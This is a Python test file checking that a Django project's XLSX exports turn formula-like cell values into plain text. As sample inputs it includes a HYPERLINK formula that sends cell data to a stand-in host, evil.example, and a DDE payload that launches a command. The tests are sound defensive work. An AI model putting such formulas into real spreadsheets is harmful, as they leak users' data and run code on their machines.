"""Issue 16, finding 7 (exports) and issue 18.6: one XLSX helper, and no exported cell is a live formula.

A value beginning with `=`, `+`, `-`, `@`, a tab or a carriage return (also after spaces) comes out of every XLSX
export as text that shows what was typed, never as a formula; control characters are dropped instead of breaking
the file. Every XLSX writer goes through `kyso.core.exports`."""

import io
import pathlib
import re

import pytest
from openpyxl import load_workbook

from kyso.core.exports import XlsxSheet, escape_cell
from kyso.lifecycle.models import IssuanceRequest, RequestState
from kyso.lifecycle.tests.factories import in_state
from kyso.portal.stats import Row, xlsx as stats_xlsx

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("value", [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "  =1+1", "\t=1", "\r=1", "\n=cmd|' /C calc'!A0",
                                   "＝1+1", "\t", "\r"])
def test_formula_starts_come_out_as_text(value):
    escaped = escape_cell(value)
    assert escaped.startswith("'") and escaped[1:] == value


@pytest.mark.parametrize("value", ["Nguyễn Văn A", "0912345678", "1/TB-BHXH", "a=b", "x-y", "", "Đ@"])
def test_ordinary_text_is_unchanged(value):
    assert escape_cell(value) == value


def test_numbers_and_control_characters():
    assert escape_cell(-5) == -5 and escape_cell(3.5) == 3.5 and escape_cell(None) is None
    assert escape_cell("Tên\x00có\x07ký\x1btự\x7f\x85") == "Têncókýtự"
    assert escape_cell("Dòng 1\nDòng 2\tcột") == "Dòng 1\nDòng 2\tcột"


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_helper_writes_no_formula_and_survives_control_characters():
    sheet = XlsxSheet("Sổ: [đến]/2026 *rất dài tên trang tính quá 31 ký tự*")
    sheet.row(["Tiêu đề"], bold=True, size=13)
    sheet.row([ATTACK, "+84 912", -1, "bình\x01thường"], wrap=True)
    sheet.widths([30, 10])
    cells = _cells(sheet.to_bytes())
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert values == ["Tiêu đề", "'" + ATTACK, "'+84 912", -1, "bìnhthường"]


def test_portal_statistics_export_escapes_the_group_names():
    cells = _cells(stats_xlsx([Row("=1+1", 1, 0, 0, 1, 0, 0)], "Thống kê"))
    assert all(c.data_type != "f" for c in cells) and "'=1+1" in [c.value for c in cells]


@pytest.mark.django_db
def test_form02_with_a_formula_in_a_request_is_text(api, demo):
    """Data saved before validation existed (or by an import) must still export safely: Form 02 XLSX."""
    req = api("badinh").post("/api/v1/lifecycle/requests/", {"kind": "person",
                                                            "person": demo.user("thuebao").person.pk},
                             format="json").json()
    in_state(IssuanceRequest.objects.get(pk=req["id"]), RequestState.CONFIRMED)
    lst = api("badinh").post("/api/v1/lifecycle/lists/", {"unit": "HN.BD"}, format="json").json()
    IssuanceRequest.objects.filter(pk=req["id"]).update(title=ATTACK, email="@evil\x07@example.vn")
    resp = api("cntt").get(f"/api/v1/lifecycle/lists/{lst['id']}/form02.xlsx/")
    assert resp.status_code == 200
    cells = _cells(resp.content)
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert "'" + ATTACK in values and "'@evil@example.vn" in values


def test_every_xlsx_writer_uses_the_one_helper():
    src = pathlib.Path(__file__).resolve().parents[2]
    writers = [str(p.relative_to(src)) for p in src.rglob("*.py")
               if "/tests/" not in str(p) and p.name != "exports.py"
               and re.search(r"openpyxl import .*Workbook\b|Workbook\(\)|xlsxwriter", p.read_text(encoding="utf-8"))]
    assert writers == [], f"XLSX written outside kyso.core.exports: {writers}"
